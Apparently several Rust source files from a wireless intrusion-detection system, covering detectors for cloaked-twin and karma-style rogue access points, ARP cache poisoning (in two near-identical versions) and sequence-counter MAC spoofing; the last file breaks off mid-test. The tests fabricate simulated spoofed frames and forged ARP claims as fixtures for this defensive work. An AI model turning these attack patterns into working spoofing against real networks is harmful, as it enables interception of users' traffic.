pub mod arp;
pub mod beacon;
pub mod deauth;
pub mod probe;
pub mod rssi;
pub mod seq;

pub use arp::ArpSpoofDetector;
pub use beacon::BeaconDetector;
pub use deauth::DeauthFloodDetector;
pub use probe::ProbeAuditDetector;
pub use rssi::RssiSplitDetector;
pub use seq::SeqControlDetector;
