//! Probe-response auditing: cloaked twins and karma-style responders.
//!
//! A rogue that never broadcasts its SSID is invisible to beacon
//! auditing — it cloaks its beacons (empty SSID) and advertises only in
//! *directed probe responses* to stations that already know the name.
//! This detector watches the directed side of advertisement, which the
//! beacon auditor deliberately ignores:
//!
//! * a **cloaked twin** — an unregistered BSSID whose broadcast beacons
//!   are cloaked but which probe-responds an SSID the site owns. A
//!   legitimate hidden network responds with *its own* name, not ours;
//! * a **karma responder** — one BSSID probe-responding many distinct
//!   SSIDs in a short window, the classic "karma" attack answering every
//!   directed probe with whatever name the victim asked for.
//!
//! Both checks are gated on what the BSSID actually broadcast-beaconed,
//! so an honest AP whose probe response merely arrives before its first
//! observed beacon is never flagged.

use std::collections::HashSet;

use rogue_dot11::MacAddr;
use rogue_sim::SimDuration;

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::detectors::beacon::hash_ssid;
use crate::event::{Dot11Kind, SensorEvent};
use crate::sketch::{hash_mac, mix64, BoundedTable, WindowCounter};

const PROBE_GROUPS: usize = 4096;
const PROBE_WAYS: usize = 4;

/// Probe-audit tuning.
#[derive(Clone, Debug)]
pub struct ProbeAuditConfig {
    /// Authorized (BSSID, channel) pairs — registered APs are exempt,
    /// and owned SSIDs are learned from their beacons.
    pub authorized: Vec<(MacAddr, u8)>,
    /// Distinct SSIDs probe-responded by one BSSID within
    /// [`ProbeAuditConfig::karma_window`] needed for a karma alert.
    pub karma_threshold: u32,
    /// Sliding window for the karma count.
    pub karma_window: SimDuration,
}

impl Default for ProbeAuditConfig {
    fn default() -> Self {
        ProbeAuditConfig {
            authorized: Vec::new(),
            karma_threshold: 4,
            karma_window: SimDuration::from_secs(10),
        }
    }
}

/// Per-BSSID advertisement posture (one bounded slot).
#[derive(Default)]
struct ProbeFlags {
    /// Broadcast-beaconed with an empty (cloaked) SSID.
    cloak_beaconed: bool,
    /// Broadcast-beaconed with a real SSID.
    open_beaconed: bool,
    cloaked_alerted: bool,
    karma_alerted: bool,
}

/// The probe-response auditor.
pub struct ProbeAuditDetector {
    cfg: ProbeAuditConfig,
    /// SSIDs owned by registered APs, learned exactly as the beacon
    /// auditor learns them.
    owned_ssids: HashSet<String>,
    flags: BoundedTable<MacAddr, ProbeFlags>,
    /// Dedup of (BSSID, SSID) probe-response pairs feeding the karma
    /// distinct-SSID count.
    seen_pairs: BoundedTable<(MacAddr, u64), ()>,
    karma: WindowCounter,
    /// Probe responses inspected.
    pub responses_seen: u64,
}

impl ProbeAuditDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: ProbeAuditConfig) -> ProbeAuditDetector {
        ProbeAuditDetector {
            karma: WindowCounter::new(cfg.karma_window, 10, 512, 4),
            cfg,
            owned_ssids: HashSet::new(),
            flags: BoundedTable::new(PROBE_GROUPS, PROBE_WAYS),
            seen_pairs: BoundedTable::new(PROBE_GROUPS, PROBE_WAYS),
            responses_seen: 0,
        }
    }

    /// Fixed state footprint of the bounded substrates, in bytes.
    pub fn state_bytes(&self) -> usize {
        self.flags.bytes() + self.seen_pairs.bytes() + self.karma.bytes()
    }
}

impl Default for ProbeAuditDetector {
    fn default() -> Self {
        ProbeAuditDetector::new(ProbeAuditConfig::default())
    }
}

impl Detector for ProbeAuditDetector {
    fn name(&self) -> &'static str {
        "probe-audit"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        let Dot11Kind::Beacon {
            ssid, probe_resp, ..
        } = &e.kind
        else {
            return;
        };
        let bh = hash_mac(&e.bssid.0);
        if !probe_resp {
            // Broadcast side: record the BSSID's advertisement posture
            // and learn owned SSIDs from registered APs in place.
            let st = self.flags.entry(e.at, bh, e.bssid, ProbeFlags::default);
            if ssid.is_empty() {
                st.cloak_beaconed = true;
            } else {
                st.open_beaconed = true;
            }
            let pair_known = self
                .cfg
                .authorized
                .iter()
                .any(|(b, ch)| *b == e.bssid && *ch == e.channel);
            if pair_known && !ssid.is_empty() {
                self.owned_ssids.insert(ssid.clone());
            }
            return;
        }
        self.responses_seen += 1;
        if self.cfg.authorized.iter().any(|(b, _)| *b == e.bssid) {
            return; // registered APs answer probes for their own name
        }
        let st = self.flags.entry(e.at, bh, e.bssid, ProbeFlags::default);
        // Cloaked twin: broadcasts nothing (or only cloaked beacons) yet
        // hands out an owned name on request.
        if st.cloak_beaconed
            && !st.open_beaconed
            && !st.cloaked_alerted
            && self.owned_ssids.contains(ssid)
        {
            st.cloaked_alerted = true;
            out.push(RawAlert {
                at: e.at,
                detector: "probe-audit",
                subject: e.bssid,
                kind: AlertKind::CloakedTwin,
                weight: 0.85,
                detail: format!("cloaked beacons but probe-responds owned SSID {ssid:?}"),
            });
        }
        // Karma: count distinct SSIDs this BSSID has responded with.
        let sh = hash_ssid(ssid);
        let pair = (e.bssid, sh);
        let ph = mix64(bh ^ sh);
        if self.seen_pairs.get_touch(e.at, ph, pair).is_none() {
            self.seen_pairs.entry(e.at, ph, pair, || ());
            let distinct = self.karma.observe(e.at, bh);
            let st = self.flags.entry(e.at, bh, e.bssid, ProbeFlags::default);
            if distinct >= self.cfg.karma_threshold && !st.karma_alerted {
                st.karma_alerted = true;
                out.push(RawAlert {
                    at: e.at,
                    detector: "probe-audit",
                    subject: e.bssid,
                    kind: AlertKind::KarmaProbe,
                    weight: 0.9,
                    detail: format!(
                        "probe-responded {distinct} distinct SSIDs within {}",
                        self.cfg.karma_window
                    ),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};
    use rogue_sim::SimTime;

    fn advert(ms: u64, bssid: MacAddr, ssid: &str, probe_resp: bool) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel: 1,
            rssi_dbm: -40.0,
            ta: bssid,
            ra: if probe_resp {
                MacAddr::local(40)
            } else {
                MacAddr::BROADCAST
            },
            bssid,
            seq: (ms % 4096) as u16,
            retry: false,
            kind: Dot11Kind::Beacon {
                ssid: ssid.into(),
                claimed_channel: 1,
                capability: 0,
                probe_resp,
            },
        })
    }

    fn registry(corp: MacAddr) -> ProbeAuditConfig {
        ProbeAuditConfig {
            authorized: vec![(corp, 1)],
            ..ProbeAuditConfig::default()
        }
    }

    #[test]
    fn cloaked_twin_responding_owned_ssid_alerts() {
        let corp = MacAddr::local(1);
        let rogue = MacAddr::local(9);
        let mut d = ProbeAuditDetector::new(registry(corp));
        let mut out = Vec::new();
        d.on_event(&advert(0, corp, "CORP", false), &mut out);
        d.on_event(&advert(100, rogue, "", false), &mut out);
        d.on_event(&advert(200, rogue, "CORP", true), &mut out);
        d.on_event(&advert(300, rogue, "CORP", true), &mut out);
        let cloaked: Vec<_> = out
            .iter()
            .filter(|a| a.kind == AlertKind::CloakedTwin)
            .collect();
        assert_eq!(cloaked.len(), 1, "{out:?}");
        assert_eq!(cloaked[0].subject, rogue);
    }

    #[test]
    fn open_beaconing_ap_is_not_a_cloaked_twin() {
        // An AP that beacons "CORP" openly and also probe-responds it is
        // the beacon auditor's business (SsidClone), not ours.
        let corp = MacAddr::local(1);
        let twin = MacAddr::local(9);
        let mut d = ProbeAuditDetector::new(registry(corp));
        let mut out = Vec::new();
        d.on_event(&advert(0, corp, "CORP", false), &mut out);
        d.on_event(&advert(100, twin, "CORP", false), &mut out);
        d.on_event(&advert(200, twin, "CORP", true), &mut out);
        assert!(
            out.iter().all(|a| a.kind != AlertKind::CloakedTwin),
            "{out:?}"
        );
    }

    #[test]
    fn probe_response_before_first_beacon_is_tolerated() {
        // e9's shape: a legitimate unregistered AP answers a probe before
        // we ever hear its beacon. No cloaked beacon seen -> no alert.
        let corp = MacAddr::local(1);
        let cafe = MacAddr::local(7);
        let mut d = ProbeAuditDetector::new(registry(corp));
        let mut out = Vec::new();
        d.on_event(&advert(0, corp, "CORP", false), &mut out);
        d.on_event(&advert(50, cafe, "CAFE", true), &mut out);
        d.on_event(&advert(150, cafe, "CAFE", false), &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn karma_responder_alerts_on_distinct_ssids() {
        let corp = MacAddr::local(1);
        let rogue = MacAddr::local(9);
        let mut d = ProbeAuditDetector::new(registry(corp));
        let mut out = Vec::new();
        for (i, name) in ["HOME", "AIRPORT", "HOTEL", "COFFEE", "DORM"]
            .iter()
            .enumerate()
        {
            // Repeats of the same name must not inflate the count.
            d.on_event(&advert(i as u64 * 100, rogue, name, true), &mut out);
            d.on_event(&advert(i as u64 * 100 + 50, rogue, name, true), &mut out);
        }
        let karma: Vec<_> = out
            .iter()
            .filter(|a| a.kind == AlertKind::KarmaProbe)
            .collect();
        assert_eq!(karma.len(), 1, "{out:?}");
        assert_eq!(karma[0].at, SimTime::from_millis(300), "fourth name");
    }

    #[test]
    fn single_name_responder_never_triggers_karma() {
        let corp = MacAddr::local(1);
        let cafe = MacAddr::local(7);
        let mut d = ProbeAuditDetector::new(registry(corp));
        let mut out = Vec::new();
        for i in 0..50u64 {
            d.on_event(&advert(i * 100, cafe, "CAFE", true), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
    }
}
