//! Wired-side ARP spoof detection.
//!
//! The paper's §5 rogue bridges wireless victims onto the wired LAN by
//! rewriting ARP bindings; cache poisoners do the same to splice into a
//! path. Both leave the same wire evidence, which this detector tracks
//! from the span-port sensor:
//!
//! * a **binding conflict** — an IP previously claimed by one hardware
//!   address is suddenly claimed by another,
//! * a **gratuitous burst** — repeated unsolicited is-at replies, the
//!   shape poisoners use to keep victim caches warm.
//!
//! The learned binding table, the conflict-alert latches, and the burst
//! counters all live on the bounded substrates in [`crate::sketch`]:
//! memory is fixed at construction, so a spoofer cycling forged
//! addresses recycles slots instead of growing the detector.

use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_sim::{SimDuration, SimTime};

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::SensorEvent;
use crate::sketch::{hash_mac, mix64, BoundedTable, WindowCounter};

const BIND_GROUPS: usize = 1024;
const BIND_WAYS: usize = 4;

/// Hash an IPv4 address into the shared key-hash domain.
#[inline]
fn hash_ip(ip: Ipv4Addr) -> u64 {
    let o = ip.octets();
    mix64(u32::from_be_bytes(o) as u64)
}

/// Spoof tuning.
#[derive(Clone, Debug)]
pub struct ArpSpoofConfig {
    /// Gratuitous replies from one source within
    /// [`ArpSpoofConfig::window`] needed for a burst alert.
    pub gratuitous_threshold: u32,
    /// Sliding window for the gratuitous-burst count.
    pub window: SimDuration,
}

impl Default for ArpSpoofConfig {
    fn default() -> Self {
        ArpSpoofConfig {
            gratuitous_threshold: 4,
            window: SimDuration::from_secs(5),
        }
    }
}

/// The ARP spoof detector.
pub struct ArpSpoofDetector {
    cfg: ArpSpoofConfig,
    /// Learned IP -> hardware bindings, first claim wins.
    bindings: BoundedTable<Ipv4Addr, MacAddr>,
    /// Once-only latches for already-reported (IP, claimant) conflicts.
    alerted_conflicts: BoundedTable<(Ipv4Addr, MacAddr), ()>,
    gratuitous: WindowCounter,
    alerted_bursts: BoundedTable<MacAddr, ()>,
    /// ARP packets inspected.
    pub arps_seen: u64,
}

impl ArpSpoofDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: ArpSpoofConfig) -> ArpSpoofDetector {
        ArpSpoofDetector {
            gratuitous: WindowCounter::new(cfg.window, 10, 512, 4),
            cfg,
            bindings: BoundedTable::new(BIND_GROUPS, BIND_WAYS),
            alerted_conflicts: BoundedTable::new(BIND_GROUPS, BIND_WAYS),
            alerted_bursts: BoundedTable::new(BIND_GROUPS, BIND_WAYS),
            arps_seen: 0,
        }
    }

    /// Pre-seed a trusted IP -> MAC binding (from the site inventory),
    /// so the first spoofed claim conflicts instead of being learned.
    pub fn trust(&mut self, ip: Ipv4Addr, mac: MacAddr) {
        *self.bindings.entry(SimTime::ZERO, hash_ip(ip), ip, || mac) = mac;
    }

    /// Fixed state footprint, in bytes.
    pub fn state_bytes(&self) -> usize {
        self.bindings.bytes()
            + self.alerted_conflicts.bytes()
            + self.gratuitous.bytes()
            + self.alerted_bursts.bytes()
    }
}

impl Default for ArpSpoofDetector {
    fn default() -> Self {
        ArpSpoofDetector::new(ArpSpoofConfig::default())
    }
}

impl Detector for ArpSpoofDetector {
    fn name(&self) -> &'static str {
        "arp-spoof"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Arp(e) = ev else { return };
        self.arps_seen += 1;
        // Binding conflict: the claim under scrutiny is sender_ip is-at
        // sender_mac, regardless of op (requests leak bindings too).
        let iph = hash_ip(e.sender_ip);
        match self.bindings.get_touch(e.at, iph, e.sender_ip).map(|m| *m) {
            None => {
                self.bindings.entry(e.at, iph, e.sender_ip, || e.sender_mac);
            }
            Some(bound) if bound != e.sender_mac => {
                let latch = (e.sender_ip, e.sender_mac);
                let h = iph ^ hash_mac(&e.sender_mac.0);
                if self.alerted_conflicts.get_touch(e.at, h, latch).is_none() {
                    self.alerted_conflicts.entry(e.at, h, latch, || ());
                    out.push(RawAlert {
                        at: e.at,
                        detector: "arp-spoof",
                        subject: e.sender_mac,
                        kind: AlertKind::ArpSpoof,
                        weight: 0.9,
                        detail: format!(
                            "{} rebound from {bound} to {} ({:?})",
                            e.sender_ip, e.sender_mac, e.op
                        ),
                    });
                }
            }
            Some(_) => {}
        }
        // Gratuitous burst accounting.
        if !e.gratuitous {
            return;
        }
        let mh = hash_mac(&e.src_mac.0);
        let count = self.gratuitous.observe(e.at, mh);
        if count >= self.cfg.gratuitous_threshold
            && self.alerted_bursts.get_touch(e.at, mh, e.src_mac).is_none()
        {
            self.alerted_bursts.entry(e.at, mh, e.src_mac, || ());
            out.push(RawAlert {
                at: e.at,
                detector: "arp-spoof",
                subject: e.src_mac,
                kind: AlertKind::ArpSpoof,
                weight: 0.6,
                detail: format!("{count} gratuitous replies within {}", self.cfg.window),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{ArpEvent, SensorId};
    use rogue_netstack::arp::ArpOp;

    fn reply(ms: u64, mac: MacAddr, ip: Ipv4Addr, gratuitous: bool) -> SensorEvent {
        SensorEvent::Arp(ArpEvent {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            src_mac: mac,
            op: ArpOp::Reply,
            sender_mac: mac,
            sender_ip: ip,
            target_ip: if gratuitous {
                ip
            } else {
                Ipv4Addr::new(192, 168, 0, 1)
            },
            gratuitous,
        })
    }

    #[test]
    fn binding_conflict_alerts_once() {
        let gw = Ipv4Addr::new(192, 168, 0, 254);
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        d.on_event(&reply(0, MacAddr::local(1), gw, false), &mut out);
        assert!(out.is_empty(), "first claim is learned");
        d.on_event(&reply(100, MacAddr::local(66), gw, false), &mut out);
        d.on_event(&reply(200, MacAddr::local(66), gw, false), &mut out);
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].kind, AlertKind::ArpSpoof);
        assert_eq!(out[0].subject, MacAddr::local(66));
        assert!((out[0].weight - 0.9).abs() < 1e-9);
    }

    #[test]
    fn trusted_binding_conflicts_immediately() {
        let gw = Ipv4Addr::new(192, 168, 0, 254);
        let mut d = ArpSpoofDetector::default();
        d.trust(gw, MacAddr::local(1));
        let mut out = Vec::new();
        d.on_event(&reply(0, MacAddr::local(66), gw, false), &mut out);
        assert_eq!(out.len(), 1, "spoof of a trusted binding: {out:?}");
    }

    #[test]
    fn gratuitous_burst_alerts() {
        let ip = Ipv4Addr::new(192, 168, 0, 50);
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        for i in 0..6u64 {
            d.on_event(&reply(i * 500, MacAddr::local(66), ip, true), &mut out);
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert!((out[0].weight - 0.6).abs() < 1e-9);
    }

    #[test]
    fn stable_bindings_stay_silent() {
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        for i in 0..20u64 {
            let host = MacAddr::local((i % 4) + 1);
            let ip = Ipv4Addr::new(192, 168, 0, (i % 4) as u8 + 1);
            d.on_event(&reply(i * 100, host, ip, false), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn state_is_fixed_under_forged_claims() {
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        let before = d.state_bytes();
        for i in 0..100_000u64 {
            let mac = MacAddr::local(i + 1);
            let ip = Ipv4Addr::new(10, (i >> 16) as u8, (i >> 8) as u8, i as u8);
            d.on_event(&reply(i / 10, mac, ip, false), &mut out);
        }
        assert_eq!(d.state_bytes(), before, "tables must not grow");
        assert!(d.bindings.tracked() <= d.bindings.capacity());
    }
}
