//! Wired-side ARP spoof detection.
//!
//! The paper's §5 rogue bridges wireless victims onto the wired LAN by
//! rewriting ARP bindings; cache poisoners do the same to splice into a
//! path. Both leave the same wire evidence, which this detector tracks
//! from the span-port sensor:
//!
//! * a **binding conflict** — an IP previously claimed by one hardware
//!   address is suddenly claimed by another,
//! * a **gratuitous burst** — repeated unsolicited is-at replies, the
//!   shape poisoners use to keep victim caches warm.

use std::collections::{HashMap, HashSet};

use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_sim::{SimDuration, SimTime};

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::SensorEvent;

/// Spoof tuning.
#[derive(Clone, Debug)]
pub struct ArpSpoofConfig {
    /// Gratuitous replies from one source within
    /// [`ArpSpoofConfig::window`] needed for a burst alert.
    pub gratuitous_threshold: u32,
    /// Sliding window for the gratuitous-burst count.
    pub window: SimDuration,
}

impl Default for ArpSpoofConfig {
    fn default() -> Self {
        ArpSpoofConfig {
            gratuitous_threshold: 4,
            window: SimDuration::from_secs(5),
        }
    }
}

/// The ARP spoof detector.
pub struct ArpSpoofDetector {
    cfg: ArpSpoofConfig,
    /// Learned IP -> hardware bindings, first claim wins.
    bindings: HashMap<Ipv4Addr, MacAddr>,
    alerted_conflicts: HashSet<(Ipv4Addr, MacAddr)>,
    gratuitous: HashMap<MacAddr, Vec<SimTime>>,
    alerted_bursts: HashSet<MacAddr>,
    /// ARP packets inspected.
    pub arps_seen: u64,
}

impl ArpSpoofDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: ArpSpoofConfig) -> ArpSpoofDetector {
        ArpSpoofDetector {
            cfg,
            bindings: HashMap::new(),
            alerted_conflicts: HashSet::new(),
            gratuitous: HashMap::new(),
            alerted_bursts: HashSet::new(),
            arps_seen: 0,
        }
    }

    /// Pre-seed a trusted IP -> MAC binding (from the site inventory),
    /// so the first spoofed claim conflicts instead of being learned.
    pub fn trust(&mut self, ip: Ipv4Addr, mac: MacAddr) {
        self.bindings.insert(ip, mac);
    }
}

impl Default for ArpSpoofDetector {
    fn default() -> Self {
        ArpSpoofDetector::new(ArpSpoofConfig::default())
    }
}

impl Detector for ArpSpoofDetector {
    fn name(&self) -> &'static str {
        "arp-spoof"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Arp(e) = ev else { return };
        self.arps_seen += 1;
        // Binding conflict: the claim under scrutiny is sender_ip is-at
        // sender_mac, regardless of op (requests leak bindings too).
        match self.bindings.get(&e.sender_ip) {
            None => {
                self.bindings.insert(e.sender_ip, e.sender_mac);
            }
            Some(&bound) if bound != e.sender_mac => {
                if self.alerted_conflicts.insert((e.sender_ip, e.sender_mac)) {
                    out.push(RawAlert {
                        at: e.at,
                        detector: "arp-spoof",
                        subject: e.sender_mac,
                        kind: AlertKind::ArpSpoof,
                        weight: 0.9,
                        detail: format!(
                            "{} rebound from {bound} to {} ({:?})",
                            e.sender_ip, e.sender_mac, e.op
                        ),
                    });
                }
            }
            Some(_) => {}
        }
        // Gratuitous burst accounting.
        if !e.gratuitous {
            return;
        }
        let times = self.gratuitous.entry(e.src_mac).or_default();
        times.push(e.at);
        let window_start = SimTime(e.at.as_nanos().saturating_sub(self.cfg.window.as_nanos()));
        times.retain(|&t| t >= window_start);
        if times.len() as u32 >= self.cfg.gratuitous_threshold
            && self.alerted_bursts.insert(e.src_mac)
        {
            out.push(RawAlert {
                at: e.at,
                detector: "arp-spoof",
                subject: e.src_mac,
                kind: AlertKind::ArpSpoof,
                weight: 0.6,
                detail: format!(
                    "{} gratuitous replies within {}",
                    times.len(),
                    self.cfg.window
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{ArpEvent, SensorId};
    use rogue_netstack::arp::ArpOp;

    fn reply(ms: u64, mac: MacAddr, ip: Ipv4Addr, gratuitous: bool) -> SensorEvent {
        SensorEvent::Arp(ArpEvent {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            src_mac: mac,
            op: ArpOp::Reply,
            sender_mac: mac,
            sender_ip: ip,
            target_ip: if gratuitous {
                ip
            } else {
                Ipv4Addr::new(192, 168, 0, 1)
            },
            gratuitous,
        })
    }

    #[test]
    fn binding_conflict_alerts_once() {
        let gw = Ipv4Addr::new(192, 168, 0, 254);
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        d.on_event(&reply(0, MacAddr::local(1), gw, false), &mut out);
        assert!(out.is_empty(), "first claim is learned");
        d.on_event(&reply(100, MacAddr::local(66), gw, false), &mut out);
        d.on_event(&reply(200, MacAddr::local(66), gw, false), &mut out);
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].kind, AlertKind::ArpSpoof);
        assert_eq!(out[0].subject, MacAddr::local(66));
        assert!((out[0].weight - 0.9).abs() < 1e-9);
    }

    #[test]
    fn trusted_binding_conflicts_immediately() {
        let gw = Ipv4Addr::new(192, 168, 0, 254);
        let mut d = ArpSpoofDetector::default();
        d.trust(gw, MacAddr::local(1));
        let mut out = Vec::new();
        d.on_event(&reply(0, MacAddr::local(66), gw, false), &mut out);
        assert_eq!(out.len(), 1, "spoof of a trusted binding: {out:?}");
    }

    #[test]
    fn gratuitous_burst_alerts() {
        let ip = Ipv4Addr::new(192, 168, 0, 50);
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        for i in 0..6u64 {
            d.on_event(&reply(i * 500, MacAddr::local(66), ip, true), &mut out);
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert!((out[0].weight - 0.6).abs() < 1e-9);
    }

    #[test]
    fn stable_bindings_stay_silent() {
        let mut d = ArpSpoofDetector::default();
        let mut out = Vec::new();
        for i in 0..20u64 {
            let host = MacAddr::local((i % 4) + 1);
            let ip = Ipv4Addr::new(192, 168, 0, (i % 4) as u8 + 1);
            d.on_event(&reply(i * 100, host, ip, false), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
    }
}
