//! Sequence-control anomaly detection (Wright's MAC-spoof detector),
//! generalized to the streaming [`Detector`] interface.
//!
//! This is the same counter-tracking state machine as
//! `rogue_detect::seqmon::SeqMonitor`, re-hosted on the pipeline's
//! bounded per-source state substrate: each transmitter's counter state
//! lives in a [`BoundedTable`] slot instead of an unbounded `HashMap`
//! entry, so an attacker cycling through randomized source addresses
//! recycles slots instead of growing the detector. The per-event logic
//! is shared verbatim between the serial per-frame path and the sharded
//! batch path ([`seq_observe`]), which is what makes the two
//! bit-identical.
//!
//! One refinement over the raw monitor: channel divergence is only
//! evidence against an *AP* transmitter (a BSS cannot move channels
//! without its stations noticing), while a client station hopping
//! channels is just roaming. Divergence alerts are therefore suppressed
//! for transmitters never seen acting as a BSSID.

use rogue_detect::seqmon::SeqMonConfig;
use rogue_dot11::MacAddr;
use rogue_sim::SimTime;

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};
use crate::sketch::{hash_mac, BoundedTable, TableView};

/// Group count of the per-transmitter tables — the sharding unit shared
/// with the RSSI detector (batch rows are routed to shards by
/// transmitter hash, so both tables must agree on the group space).
pub(crate) const TA_GROUPS: usize = 4096;
const TA_WAYS: usize = 4;

/// Per-transmitter counter state (one bounded slot).
pub(crate) struct SeqEntry {
    last_seq: Option<u16>,
    last_channel: Option<u8>,
    /// Most recent anomaly times, capped at the alarm threshold — the
    /// alarm only ever needs the newest `threshold` sightings.
    anomaly_times: Vec<SimTime>,
    alarmed_seq: bool,
    alarmed_chan: bool,
    /// Seen with `ta == bssid` — an AP-side radio.
    is_ap: bool,
}

impl SeqEntry {
    pub(crate) fn new() -> SeqEntry {
        SeqEntry {
            last_seq: None,
            last_channel: None,
            anomaly_times: Vec::new(),
            alarmed_seq: false,
            alarmed_chan: false,
            is_ap: false,
        }
    }
}

/// The shared per-event state machine: `SeqMonitor::observe_frame` plus
/// the AP-only divergence gate, over one bounded slot.
#[inline]
#[allow(clippy::too_many_arguments)]
pub(crate) fn seq_observe(
    cfg: &SeqMonConfig,
    st: &mut SeqEntry,
    at: SimTime,
    ta: MacAddr,
    seq: u16,
    channel: u8,
    retry: bool,
    is_ap_now: bool,
    mut emit: impl FnMut(RawAlert),
) {
    st.is_ap |= is_ap_now;

    // Channel divergence is immediate, unambiguous evidence — against
    // an AP. The alarmed flag latches either way (matching the raw
    // monitor), so a roaming client later seen as an AP does not
    // retroactively alarm.
    if let Some(prev) = st.last_channel {
        if prev != channel && !st.alarmed_chan {
            st.alarmed_chan = true;
            if st.is_ap {
                emit(RawAlert {
                    at,
                    detector: "seq-control",
                    subject: ta,
                    kind: AlertKind::ChannelDivergence,
                    weight: 0.9,
                    detail: format!("heard on channel {prev} and {channel}"),
                });
            }
        }
    }
    st.last_channel = Some(channel);

    if let Some(last) = st.last_seq {
        // Wright's spoof signature: the merged stream of two radios
        // behind one address either repeats a counter value outright (a
        // non-retry exact duplicate — ARQ retransmissions repeat the
        // number but set the retry flag) or jumps backward by more than
        // capture reordering can explain. All arithmetic is modulo
        // 4096, so the 0x0FFF -> 0x000 wrap shows as a small forward
        // delta and stays clean.
        let delta = seq.wrapping_sub(last) & 0x0FFF;
        let is_anomaly = (delta == 0 && !retry)
            || (delta > cfg.max_normal_gap && delta < 4096 - cfg.reorder_tolerance);
        if is_anomaly {
            if st.anomaly_times.len() >= cfg.alarm_threshold as usize {
                st.anomaly_times.remove(0);
            }
            st.anomaly_times.push(at);
            let window_start = SimTime(at.as_nanos().saturating_sub(cfg.window.as_nanos()));
            st.anomaly_times.retain(|&t| t >= window_start);
            if st.anomaly_times.len() as u32 >= cfg.alarm_threshold && !st.alarmed_seq {
                st.alarmed_seq = true;
                emit(RawAlert {
                    at,
                    detector: "seq-control",
                    subject: ta,
                    kind: AlertKind::SequenceAnomaly,
                    weight: 0.7,
                    detail: format!(
                        "{} interleaved-counter jumps within {}",
                        st.anomaly_times.len(),
                        cfg.window
                    ),
                });
            }
        }
    }
    st.last_seq = Some(seq);
}

/// Streaming sequence-control monitor over bounded per-source state.
pub struct SeqControlDetector {
    cfg: SeqMonConfig,
    table: BoundedTable<MacAddr, SeqEntry>,
    observed: u64,
}

impl SeqControlDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: SeqMonConfig) -> SeqControlDetector {
        SeqControlDetector {
            cfg,
            table: BoundedTable::new(TA_GROUPS, TA_WAYS),
            observed: 0,
        }
    }

    /// Frames observed so far.
    pub fn observed(&self) -> u64 {
        self.observed
    }

    /// Transmitters currently tracked (bounded by the table capacity).
    pub fn tracked_sources(&self) -> usize {
        self.table.tracked()
    }

    /// Fixed per-source state footprint, in bytes.
    pub fn state_bytes(&self) -> usize {
        self.table.bytes()
    }

    /// Entries recycled under source-cardinality pressure.
    pub fn evictions(&self) -> u64 {
        self.table.evictions
    }

    /// Config plus disjoint per-shard table views for batch evaluation.
    pub(crate) fn batch_parts(
        &mut self,
        shards: usize,
    ) -> (&SeqMonConfig, Vec<TableView<'_, MacAddr, SeqEntry>>) {
        let SeqControlDetector { cfg, table, .. } = self;
        (cfg, table.shard_views(shards))
    }

    /// Fold per-shard tallies back after a batch.
    pub(crate) fn fold_batch(&mut self, observed: u64, evictions: u64) {
        self.observed += observed;
        self.table.add_evictions(evictions);
    }
}

impl Default for SeqControlDetector {
    fn default() -> Self {
        SeqControlDetector::new(SeqMonConfig::default())
    }
}

impl Detector for SeqControlDetector {
    fn name(&self) -> &'static str {
        "seq-control"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        if e.kind == Dot11Kind::Ack {
            return; // no sequence counter, no transmitter address
        }
        self.observed += 1;
        let h = hash_mac(&e.ta.0);
        let st = self.table.entry(e.at, h, e.ta, SeqEntry::new);
        seq_observe(
            &self.cfg,
            st,
            e.at,
            e.ta,
            e.seq,
            e.channel,
            e.retry,
            e.ta == e.bssid,
            |a| out.push(a),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};
    use rogue_dot11::MacAddr;
    use rogue_sim::SimTime;

    fn frame(ms: u64, seq: u16, channel: u8) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel,
            rssi_dbm: -40.0,
            ta: MacAddr::local(1),
            ra: MacAddr::BROADCAST,
            bssid: MacAddr::local(1),
            seq,
            retry: false,
            kind: Dot11Kind::Mgmt,
        })
    }

    #[test]
    fn interleaved_counters_raise_sequence_alerts() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
